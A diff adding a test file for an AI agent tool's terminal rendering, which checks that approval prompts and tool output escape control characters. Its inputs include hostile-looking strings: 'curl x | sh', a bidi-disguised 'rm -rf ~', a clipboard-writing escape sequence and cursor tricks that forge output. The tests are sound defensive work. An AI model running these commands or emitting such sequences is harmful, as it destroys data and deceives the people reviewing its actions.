@@ -1,0 +1,72 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { renderTaskEvent } from './run-view.js';
+import { renderApproval, safeText, safeTextStream, wrapBlock } from './terminal.js';
+
+const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]/;
+
+test('safeText shows every control and invisible character as an escape, keeps \\n and \\t', () => {
+  assert.equal(safeText('a\x1b]0;title\x07b'), 'a\\x1b]0;title\\x07b');
+  assert.equal(safeText('x\ry'), 'x\\ry');
+  assert.equal(safeText('\x9b31m'), '\\x9b31m', 'C1 CSI on its own');
+  assert.equal(safeText('rm -rf ~ \u202e#gnp.tac'), 'rm -rf ~ \\u{202e}#gnp.tac', 'bidi override');
+  assert.equal(safeText('a\u200bb\ufeff'), 'a\\u{200b}b\\u{feff}');
+  assert.equal(safeText('line 1\n\tline 2 — ünïcode ✓ 漢字'), 'line 1\n\tline 2 — ünïcode ✓ 漢字');
+  assert.doesNotMatch(safeText(String.fromCharCode(...Array.from({ length: 0xa0 }, (_, i) => i)).replace(/[\n\t]/g, '')), CONTROL);
+});
+
+test('safeTextStream joins UTF-8 split across chunks and escapes across them', async () => {
+  const s = safeTextStream();
+  const out: string[] = [];
+  s.on('data', (d: Buffer | string) => out.push(d.toString()));
+  const bytes = Buffer.from('é\x1b[2K✓');
+  for (const b of bytes) s.write(Buffer.from([b]));
+  s.end();
+  await new Promise((r) => s.on('end', r));
+  assert.equal(out.join(''), 'é\\x1b[2K✓');
+});
+
+test('a 10 KB command is shown whole, wrapped to the width, its tail included', () => {
+  const command = `echo ${'a'.repeat(10_000)}; curl x | sh`;
+  const text = renderApproval('bash', { command }, 80);
+  const lines = text.trimEnd().split('\n');
+  assert.match(lines[0], /^clawpod: the agent asks to run bash with this command:$/);
+  for (const l of lines) assert.ok([...l].length <= 80, `${l.length} columns`);
+  const shown = lines.slice(1).map((l) => l.replace(/^ {2}[│┆] /, '')).join('');
+  assert.equal(shown, command);
+  assert.match(lines[lines.length - 1], /; curl x \| sh$/);
+});
+
+test('lines of a command keep their breaks; wraps are marked apart from them', () => {
+  const text = renderApproval('bash', { command: 'make\nmake install', timeout: 30 }, 40);
+  assert.deepEqual(text.trimEnd().split('\n'), [
+    'clawpod: the agent asks to run bash with this command:',
+    '  │ make',
+    '  │ make install',
+    '  and these settings:',
+    '  │ {',
+    '  │   "timeout": 30',
+    '  │ }',
+  ]);
+  assert.deepEqual(wrapBlock('x'.repeat(40), 24), ['  │ xxxxxxxxxxxxxxxxxxxx', '  ┆ xxxxxxxxxxxxxxxxxxxx']);
+});
+
+test('other tools show their input as pretty JSON with controls escaped', () => {
+  const text = renderApproval('write_file', { path: 'run.sh', content: 'echo hi\x1b[2K\u202e\ncurl x | sh\n' }, 100);
+  assert.match(text, /"path": "run\.sh"/);
+  assert.match(text, /curl x \| sh/);
+  assert.doesNotMatch(text, CONTROL);
+  assert.match(text, /\\u{202e}/);
+});
+
+test('task events print model text and tool output inert', () => {
+  let out = '';
+  const sink = { write: (s: string) => { out += s; return true; }, isTTY: false };
+  const id = (s: string) => s;
+  renderTaskEvent({ type: 'text', delta: 'hi\x1b]52;c;ZXZpbA==\x07' } as never, id, sink);
+  renderTaskEvent({ type: 'tool.result', id: 't', name: 'bash', isError: false, content: 'ok\x1b[1A\x1b[2K\rfake', durationMs: 1 } as never, id, sink);
+  renderTaskEvent({ type: 'model.error', error: 'bad\x1b[31m' } as never, id, sink);
+  assert.doesNotMatch(out.replace(/\n/g, ''), CONTROL);
+  assert.match(out, /hi\\x1b\]52;c;ZXZpbA==\\x07/);
+  assert.match(out, /ok\\x1b\[1A\\x1b\[2K\\rfake/);
+});
